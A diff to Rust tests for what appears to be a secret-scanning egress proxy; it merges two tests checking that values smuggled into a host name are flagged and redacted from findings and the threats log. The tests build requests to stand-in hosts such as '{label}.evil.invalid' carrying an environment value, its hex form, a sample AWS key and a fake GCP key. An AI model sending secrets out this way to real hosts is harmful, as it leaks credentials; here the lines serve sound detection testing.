@@ -132,15 +132,16 @@ fn files_are_watched_by_their_content_their_values_and_their_leaves() {
     values.iter().for_each(|value| assert_nowhere(&proxy, value));
 }
 
-/// It stood whole in `dest`, and in each line of the log that named the host.
+/// It stood whole in `dest`.
 #[test]
-fn a_value_in_a_hosts_name_is_written_nowhere() {
+fn a_value_in_a_hosts_name_is_in_no_finding() {
     let value = "Label-EXAMPLE-12";
     let settings = json!({ "watch_env": ["APP_LABEL"], "connect_timeout_secs": 1 });
     let proxy = Setup::new(settings).environment("APP_LABEL", value).start();
     let id = sample("aws_access_key").text();
+    let key = ["AIza", "SyEXAMPLE-abcdEFGH-0123456789-ijklM"].concat();
     let hex = HEXLOWER.encode(value.as_bytes());
-    for label in [value, &hex, &id] {
+    for label in [value, &hex, &id, &key] {
         let host = format!("{label}.evil.invalid");
         let response = proxy.exchange(format!(
             "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
@@ -151,31 +152,12 @@ fn a_value_in_a_hosts_name_is_written_nowhere() {
     let count = |pattern| findings.iter().filter(|found| found.pattern == pattern).count();
     // Each in the target and in the Host field.
     assert_eq!((count("known_value"), count("aws_access_key")), (4, 2), "{findings:?}");
-    assert!(
-        findings.iter().all(|found| found.dest.ends_with("....evil.invalid:80")),
-        "{findings:?}"
-    );
-    proxy.wait_for_log(&["WARNING", "akia....evil.invalid:80"]);
-    for secret in [value, &value.to_lowercase(), &hex, &id, &id.to_lowercase()] {
-        assert_nowhere(&proxy, secret);
-    }
-}
-
-/// No rule finds it again in small letters: what a head has told of is remembered for the lines that name the host.
-#[test]
-fn a_key_that_loses_its_capitals_in_a_hosts_name_is_written_nowhere() {
-    let proxy = Setup::new(json!({ "connect_timeout_secs": 1 })).start();
-    let key = ["AIza", "SyEXAMPLE-abcdEFGH-0123456789-ijklM"].concat();
-    for _ in 0..2 {
-        let (_, response) = proxy.request_tunnel(&format!("{key}.evil.invalid:443"));
-        assert_eq!(response.status(), 502);
-    }
-    let findings = proxy.settled_findings();
-    assert!(findings.iter().any(|found| found.pattern == "gcp_api_key"), "{findings:?}");
-    assert!(findings.iter().all(|found| found.dest == "....evil.invalid:443"), "{findings:?}");
-    proxy.wait_for_log(&["WARNING", "....evil.invalid:443: "]);
-    for secret in [&key, &key.to_lowercase()] {
-        assert_nowhere(&proxy, secret);
+    assert!(count("gcp_api_key") > 0, "{findings:?}");
+    let is_cut = |dest: &str| dest.ends_with("....evil.invalid:80");
+    assert!(findings.iter().all(|found| is_cut(&found.dest)), "{findings:?}");
+    let text = std::fs::read_to_string(proxy.log_dir().join("threats.jsonl")).unwrap();
+    for secret in [value, &value.to_lowercase(), &hex, &id.to_lowercase(), &key.to_lowercase()] {
+        assert!(!text.contains(secret), "{text}");
     }
 }
 
